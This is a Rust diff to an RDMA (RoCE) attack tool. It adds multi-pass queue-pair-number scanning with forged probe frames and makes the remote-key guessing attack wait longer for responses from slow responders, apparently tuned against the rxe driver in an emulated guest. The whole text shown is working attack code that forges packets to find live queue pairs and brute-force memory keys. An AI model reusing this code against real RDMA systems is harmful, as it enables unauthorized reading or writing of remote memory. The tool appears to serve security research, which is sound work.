@@ -87,6 +87,10 @@ pub struct AttackArgs {
     /// µs between frames.
     #[arg(long, default_value_t = 2000)]
     probe_us: u64,
+    /// qpn-scan: passes over the range while nothing is found (a lost probe hides the live QP
+    /// from one pass).
+    #[arg(long, default_value_t = 1)]
+    passes: u32,
     /// rkey-guess: how the keys are picked.
     #[arg(long, value_enum, default_value = "random")]
     guess: Guess,
@@ -141,6 +145,28 @@ fn settle(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8], d: Duration) 
     Ok(())
 }
 
+/// Keep draining into the learner until `done`, until the responder has been quiet for
+/// `quiet`, or for `cap` at most: a slow responder (rxe in a TCG guest) answers a burst of
+/// forged requests long after the last was sent.
+fn settle_until(
+    sock: &RawSocket,
+    learner: &mut Learner,
+    buf: &mut [u8],
+    quiet: Duration,
+    cap: Duration,
+    done: impl Fn(&Learner) -> bool,
+) -> Result<()> {
+    let start = Instant::now();
+    let (mut seen, mut last_change) = (learner.l.responses, start);
+    while !done(learner) && start.elapsed() < cap && last_change.elapsed() < quiet {
+        drain(sock, learner, buf)?;
+        if learner.l.responses != seen {
+            (seen, last_change) = (learner.l.responses, Instant::now());
+        }
+    }
+    Ok(())
+}
+
 /// Drain everything that arrived (without waiting) into the learner: a backlog would leave
 /// the attacker's idea of the PSNs behind the connection's.
 fn drain(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8]) -> Result<()> {
@@ -170,7 +196,8 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     let mut buf = vec![0u8; 65536];
     let mut sent = 0u64;
     // qpn-scan: (the QPN that answered, QPNs tried)
-    let mut scan: Option<(Option<u32>, u32)> = None;
+    // qpn-scan: (the QPN found, QPNs tried in the last pass, passes)
+    let mut scan: Option<(Option<u32>, u32, u32)> = None;
     // the kind's own report, appended to the outcome line, and an outcome it decides itself
     let mut extra = String::new();
     let mut decided: Option<&str> = None;
@@ -283,46 +310,52 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
             };
             let wait = Duration::from_micros(a.probe_us);
             let count = u64::from(a.count.map_or(4096, |c| c.min(1 << 24) as u32));
-            let mut found = None;
+            let (mut found, mut passes) = (None, 0);
             let mut q = a.from;
             let end = (u64::from(a.from) + count).min(1 << 24) as u32;
-            let mut prev: Vec<u32> = Vec::new();
-            'scan: while q < end {
-                let batch: Vec<u32> = (q..end.min(q + 16)).collect();
-                q += batch.len() as u32;
-                let before = seq_naks(&learner);
-                for &c in &batch {
-                    let f = probe(c, &learner);
-                    learner.sent(&f);
-                    sock.send(&f)?;
-                    sent += 1;
-                }
-                settle(&sock, &mut learner, &mut buf, wait)?;
-                if seq_naks(&learner) == before {
-                    prev = batch;
-                    continue;
-                }
-                // a NAK after this batch (or a late one for the last): which QPN, one at a time,
-                // twice over — a responder NAKs a gap once until the requester's resend fills it,
-                // so each pass first lets the flow catch up
-                for _pass in 0..2 {
-                    settle(&sock, &mut learner, &mut buf, wait * 4)?;
-                    for &c in prev.iter().chain(&batch) {
-                        let before = seq_naks(&learner);
+            let mut prev: Vec<u32>;
+            // again over the range while nothing is found: one lost probe (a guest's tap queue
+            // full of the flow's frames) hides the live QP from a pass
+            'scan: while passes < a.passes.max(1) {
+                passes += 1;
+                (q, prev) = (a.from, Vec::new());
+                while q < end {
+                    let batch: Vec<u32> = (q..end.min(q + 16)).collect();
+                    q += batch.len() as u32;
+                    let before = seq_naks(&learner);
+                    for &c in &batch {
                         let f = probe(c, &learner);
                         learner.sent(&f);
                         sock.send(&f)?;
                         sent += 1;
+                    }
+                    settle(&sock, &mut learner, &mut buf, wait)?;
+                    if seq_naks(&learner) == before {
+                        prev = batch;
+                        continue;
+                    }
+                    // a NAK after this batch (or a late one for the last): which QPN, one at a time,
+                    // twice over — a responder NAKs a gap once until the requester's resend fills it,
+                    // so each pass first lets the flow catch up
+                    for _pass in 0..2 {
                         settle(&sock, &mut learner, &mut buf, wait * 4)?;
-                        if seq_naks(&learner) > before {
-                            found = Some(c);
-                            break 'scan;
+                        for &c in prev.iter().chain(&batch) {
+                            let before = seq_naks(&learner);
+                            let f = probe(c, &learner);
+                            learner.sent(&f);
+                            sock.send(&f)?;
+                            sent += 1;
+                            settle(&sock, &mut learner, &mut buf, wait * 4)?;
+                            if seq_naks(&learner) > before {
+                                found = Some(c);
+                                break 'scan;
+                            }
                         }
                     }
+                    prev = batch;
                 }
-                prev = batch;
             }
-            scan = Some((found, q - a.from));
+            scan = Some((found, q - a.from, passes));
         }
         AttackKind::RkeyGuess => {
             let reth = learner.l.reth.context("no RETH seen: the connection carries no WRITE or READ")?;
@@ -373,10 +406,23 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 by_psn.insert(psn.value(), key);
                 sent += 1;
             }
-            // a response may trail the last guess
-            if leak.is_none() {
-                settle(&sock, &mut learner, &mut buf, Duration::from_millis(50))?;
+            // responses trail the last guess: a slow responder works through the whole burst
+            // first (rxe in a TCG guest answered 150 ms after the last of 4096), so wait until
+            // it is quiet
+            if leak.is_none() && landed.is_none() {
+                let fatal = |l: &Learner| {
+                    l.l.last_nak
+                        .as_ref()
+                        .filter(|n| Some(*n) != fatal_before.as_ref())
+                        .is_some_and(|(_, k)| k == "RemoteAccessError" || k == "InvalidRequest")
+                };
+                #[rustfmt::skip]
+                settle_until(&sock, &mut learner, &mut buf, Duration::from_millis(200), Duration::from_secs(3),
+                             |l| leaked(l, &by_psn).is_some() || fatal(l))?;
                 leak = leaked(&learner, &by_psn);
+                if fatal(&learner) {
+                    landed = learner.l.last_nak.as_ref().and_then(|(p, _)| by_psn.get(&p.value()).copied());
+                }
                 landed = leak.or(landed);
             }
             let distinct: std::collections::HashSet<u32> = by_psn.values().copied().collect();
@@ -451,7 +497,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
         "observed"
     } else if let Some(d) = decided {
         d
-    } else if let Some((found, _)) = scan {
+    } else if let Some((found, _, _)) = scan {
         if found.is_some() {
             "found"
         } else {
@@ -480,8 +526,8 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
         resp.qpn.unwrap_or(0),
         l.qpns,
         l.rkeys,
-        scan.map_or(String::new(), |(f, tried)| format!(
-            " scan_from={:#08x} scan_tried={tried} found_qp={}",
+        scan.map_or(String::new(), |(f, tried, passes)| format!(
+            " scan_from={:#08x} scan_tried={tried} scan_passes={passes} found_qp={}",
             a.from,
             f.map_or("-".to_string(), |q| format!("{q:#08x}"))
         ))
